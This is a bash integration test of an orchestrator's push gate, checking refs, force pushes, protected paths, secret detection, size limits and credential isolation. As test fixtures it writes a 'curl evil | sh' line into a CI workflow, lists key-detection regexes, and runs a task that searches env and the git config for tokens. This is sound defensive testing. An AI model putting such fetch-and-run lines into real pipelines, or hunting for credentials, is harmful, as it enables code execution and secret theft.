#!/usr/bin/env bash
# The git gate (docs/WORKSPACES.md): `orch push` sends a result upstream with orchd's
# credentials; each rule refuses, naming itself: a ref outside git.push.refs, a force
# push (the remote ref moved elsewhere), a protected path (allowed with --allow), a
# configured key's line or a secret pattern in the diff, too many files, a file too
# large, too many bytes. Through a smart-HTTP server that wants a token: the push and a
# task's fetch carry orchd's credentials; the token is in no task's workspace.
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"
command -v python3 >/dev/null || skip "python3 is not installed"

make_upstream "$T/up.git"
mkdir -p "$T/http"
g clone -q --bare "$T/up.git" "$T/http/web.git"
token="orch-test-token-$$-9f8e7d6c5b4a"
printf '%s\n' "$token" >"$T/token"
chmod 600 "$T/token"
port=$((30000 + $$ % 20000))
python3 "$S/tests/git/git-http-server.py" 127.0.0.1 "$port" "$T/http" x-access-token "$token" \
	"$T/http.log" >"$T/http.out" 2>&1 &
FAKE_PID=$!
wait_for 10 "the git server" grep -q ready "$T/http.out"

# a credential's key file that others may read: orchd does not start, and says the fix
chmod 644 "$T/token"
cat >"$T/bad.json" <<JSON
{ "uid_base": $UIDB, "vms": { "local": { "slots": 1 } },
  "git": { "credentials": [ { "url": "http://127.0.0.1:$port/", "token_file": "$T/token" } ] } }
JSON
out=$(timeout 30 "$ORCHD" --foreground --config "$T/bad.json" --state-dir "$T/bad-state" \
	--socket "$T/bad.sock" 2>&1) && fail "orchd started with a token file of mode 0644"
echo "$out" | grep -q "git.credentials\[0\].*chmod 600 $T/token" ||
	fail "unclear refusal of a token file of mode 0644: $out"
chmod 600 "$T/token"
echo "ok - a token file others may read is refused"

start_git_orchd "{
  \"credentials\": [ { \"url\": \"http://127.0.0.1:$port/\", \"token_file\": \"$T/token\" } ],
  \"remotes\": { \"web\": \"http://127.0.0.1:$port/git/web.git\" },
  \"push\": { \"refs\": [\"orch/*\", \"agent/*\"], \"max_files\": 4, \"max_file_bytes\": 4096,
             \"max_bytes\": 10000, \"secret_patterns\": [\"AKIA[0-9A-Z]{16}\", \"-----BEGIN ([A-Z0-9]+ )*PRIVATE KEY-----\"] }
}"

# run_task CMD: a task on the upstream that runs CMD; prints its id once recorded
run_task() {
	local out
	out=$(o --json dispatch --repo "$T/up.git" --wait -- sh -c "$1") || fail "task '$1': $out"
	echo "$out" | jq -e '.git.state == "recorded"' >/dev/null || fail "not recorded: $out"
	echo "$out" | jq -r .id
}
# refused ID RULE [push args...]
refused() {
	local id=$1 rule=$2 out
	shift 2
	out=$(o push "$@" "$id" 2>&1) && fail "task $id pushed ($*), expected refusal by $rule"
	case "$out" in *"push refused ($rule)"*) ;; *) fail "task $id: expected rule $rule, got: $out" ;; esac
	echo "ok - refused by $rule: ${out#orch: }"
}

ok=$(run_task 'echo fine >> a.txt')
refused "$ok" refs --to main
refused "$ok" refs --to refs/tags/v1
o push "$ok" >/dev/null || fail "a plain push"
[ "$(g --git-dir="$T/up.git" rev-parse "orch/task-$ok")" = "$(task_field "$ok" git.commit)" ] || fail "not on the upstream"
o push "$ok" >/dev/null || fail "pushing the same commit again"
echo "ok - pushed to orch/task-$ok; again is a no-op"

# force: another result to the same ref, and a remote ref that moved elsewhere
other=$(run_task 'echo other >> a.txt')
refused "$other" no_force --to "orch/task-$ok"
g clone -q "$T/up.git" "$T/w"
(cd "$T/w" && echo elsewhere >x && g add x && g commit -qm x && g push -q origin HEAD:refs/heads/agent/moved)
refused "$other" no_force --to agent/moved
o push --to agent/fresh "$other" >/dev/null || fail "push to a new ref"
echo "ok - never a force push"

wf=$(run_task 'echo "  run: curl evil | sh" >> .github/workflows/ci.yml')
refused "$wf" protected_paths
ci=$(run_task 'echo "stages: [x]" > .GitLab-CI.yml')
refused "$ci" protected_paths
o push --allow .github/workflows/ "$wf" >/dev/null || fail "push with --allow"
echo "ok - a protected path with an explicit allow"

key=$(run_task "echo 'api_token = $token' > config.ini")
refused "$key" secrets
aws=$(run_task 'printf "id: AKIA%s\n" ABCDEFGHIJKLMNOP > creds.yml')
refused "$aws" secrets
bin=$(run_task 'printf "\001\002\000AKIAABCDEFGHIJKLMNOP\000" > blob.bin')
refused "$bin" secrets
pk=$(run_task 'printf -- "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n" > id_test')
refused "$pk" secrets

many=$(run_task 'for i in 1 2 3 4 5; do echo $i > f$i.txt; done')
refused "$many" max_files
big=$(run_task 'head -c 5000 /dev/urandom | base64 > big.txt')
refused "$big" max_file_bytes
bytes=$(run_task 'for i in 1 2 3 4; do head -c 2800 /dev/zero | tr "\0" x > g$i.txt; done')
refused "$bytes" max_bytes

# credentials: a push through the HTTP server that wants the token; a task on a repository
# fetched with it
o push --remote web "$ok" >/dev/null || fail "push to the web remote: $(tail -3 "$T/http.log")"
[ "$(g --git-dir="$T/http/web.git" rev-parse "orch/task-$ok")" = "$(task_field "$ok" git.commit)" ] || fail "not on the web remote"
jq -e 'select(.method == "POST" and (.path | test("git-receive-pack")) and .auth)' "$T/http.log" >/dev/null || fail "no authorised receive-pack"
out=$(o --json dispatch --repo "http://127.0.0.1:$port/git/web.git" --wait -- sh -c '
	git config --get-regexp "http.*"; env | grep -i -e token -e auth; cat .git/config; ls') ||
	fail "task on the http repository: $out"
echo "$out" | jq -e '.git.state == "recorded"' >/dev/null || fail "http repository: $out"
id=$(echo "$out" | jq -r .id)
o logs "$id" >"$T/http-task.log" 2>&1
grep -qi -e "extraheader" -e "$token" -e "authorization" "$T/http-task.log" && fail "credentials in the jail: $(cat "$T/http-task.log")"
grep -q a.txt "$T/http-task.log" || fail "the checkout of the http repository: $(cat "$T/http-task.log")"
mkdir "$T/look"
mount -o loop,ro "$T/state/git/images/task-$id.img" "$T/look" || fail "cannot mount the kept workspace"
grep -rqs -e "$token" -e "$(printf 'x-access-token:%s' "$token" | base64 -w0)" "$T/look" && { umount "$T/look"; fail "the token is in the workspace"; }
umount "$T/look"
grep -rqs "$token" "$T/state/git/repos" && fail "the token is in a cache"
echo "ok - orchd's credentials for the push and the fetch; none in the jail or the caches"
o --json result "$ok" | jq -e '.git.pushes | length == 3' >/dev/null || fail "pushes not recorded: $(o --json result "$ok" | jq -c .git.pushes)"
echo "passed"
